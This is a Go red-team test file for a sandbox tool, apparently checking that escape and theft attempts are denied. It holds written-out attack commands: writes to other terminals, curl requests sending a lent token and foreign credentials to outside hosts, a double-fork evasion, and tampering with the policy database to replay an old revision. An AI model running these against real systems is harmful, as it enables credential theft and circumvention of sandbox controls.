package redteam_test

import (
	"database/sql"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	_ "modernc.org/sqlite"

	"exeat/cmd/demo/human"
	"exeat/sandbox/control"
	"exeat/store"
)

var furtherAttacks = []attack{
	{
		id: "MX01", name: "the terminal of the user", play: func(s *scene) string {
			return s.terminal("sh", "-c", `ls /dev/pts | tr '\n' ' '; tty; for f in /dev/tty0 /dev/tty1 /dev/console /dev/pts/1 /dev/pts/2 /dev/ttyS0 /dev/vcs; do echo typed >$f && echo $f SUCCEEDED; done; ls -l /proc/*/fd | grep -c pts/[1-9]; echo seen`)
		},
		want: []string{`seen`, `/dev/pts/0`, `/dev/pts/1: (Directory nonexistent|No such file|Permission denied)`},
	},
	{
		id: "MX02", name: "load an older statement again (H)", play: replay,
		want: []string{`refused to load 3: .*statement`, `policy revision 2 loaded`}, never: `revision 3 loaded`,
	},
	{
		id: "MX03", name: "the attacker's own key on an allowed host", play: func(s *scene) string {
			s.exeat("provider", "create", "--name", s.name, "--type", "generic", "--credential", "LENT_TOKEN", "--host", "a.example.com")
			args := append(s.arguments(), "--provider", s.name, "--", "sh", "-c")
			return s.exeat(append(args, `env | grep LENT; for h in 'Authorization: Bearer mine' 'X-Api-Key: mine' 'Cookie: session=mine' 'Authorization: Basic bWluZTptaW5l'; do curl -sS -o /dev/null -w '%{http_code}\n' -H "$h" https://a.example.com/mx03; done; curl -sS https://u:p@a.example.com/mx03; curl -sS -H "Authorization: Bearer $LENT_TOKEN" https://e.example.net/mx03`)...)
		},
		want: []string{`LENT_TOKEN=`, `(?m)^403$`}, never: `(?m)^200$|public page`,
		record: denial{exe: "/usr/bin/curl", host: "a.example.com", port: 443, code: "foreign_credential"}, after: nothingCame("/mx03"),
	},
	{
		id: "MX05", name: "shed the ancestor by a double fork", policy: `  skipped:
    endpoints: [ { host: a.example.com, port: 443 } ]
    binaries: [ { path: W/copy } ]
`,
		before: func(s *scene) { copyTool(s, "copy") },
		script: `./copy fork $W/copy get 'POST https://a.example.com/mx05'; sleep 1; ./copy get 'DELETE https://a.example.com/mx05'`,
		want:   []string{`status 403`}, never: `status 200`, after: nothingCame("POST a.example.com/mx05", "DELETE a.example.com/mx05"),
		record: denial{exe: "W/copy", host: "a.example.com", port: 443, code: "policy_denied"},
	},
}

// replay is a host agent that cannot sign: it copies a revision that was signed
// once behind the newest, and asks the supervisor to load it.
func replay(s *scene) string {
	run := func(args ...string) {
		s.t.Helper()
		code, screen, err := human.Agree(s.command(s.t.Context(), args...), s.town.approver(s), patience)
		if code != 0 || err != nil {
			s.t.Fatalf("exeat %q: %d %v\n%s", args, code, err, screen)
		}
	}
	wide := s.writePolicy()
	run("sandbox", "create", s.name, "--policy", wide)
	narrow := strings.Replace(policy, "access: read-only", "rules: [ { allow: { method: HEAD, path: /none } } ]", 1)
	must(s.t, os.WriteFile(wide, []byte(narrow), 0o644))
	run("policy", "set", s.name, "--policy", wide, "--wait")
	state := store.Dirs{State: filepath.Join(s.home, ".local/state/exeat"), Runtime: filepath.Join(s.town.run, "exeat")}
	// The supervisor and its watchers write to the file too: a busy moment of theirs is waited for.
	db, err := sql.Open("sqlite", "file:"+filepath.Join(state.State, "exeat.db")+"?_pragma=busy_timeout(10000)")
	must(s.t, err)
	defer db.Close()
	var id string
	must(s.t, db.QueryRow(`SELECT id FROM sandboxes WHERE name = ?`, s.name).Scan(&id))
	const columns = `digest, parent_digest, text, statement, signature, approver, strength, source, status, problem, created_at`
	_, err = db.Exec(`INSERT INTO revisions (sandbox, number, `+columns+`) SELECT sandbox, 3, `+columns+` FROM revisions WHERE sandbox = ?1 AND number = 1;
		UPDATE revisions SET parent_digest = (SELECT digest FROM revisions WHERE sandbox = ?1 AND number = 2) WHERE sandbox = ?1 AND number = 3`, id)
	must(s.t, err)
	client, err := control.Dial(s.t.Context(), state.Socket(id))
	must(s.t, err)
	err = client.Load(s.t.Context(), 3)
	return fmt.Sprintf("refused to load 3: %v\n", err) + s.exeat("sandbox", "get", s.name)
}
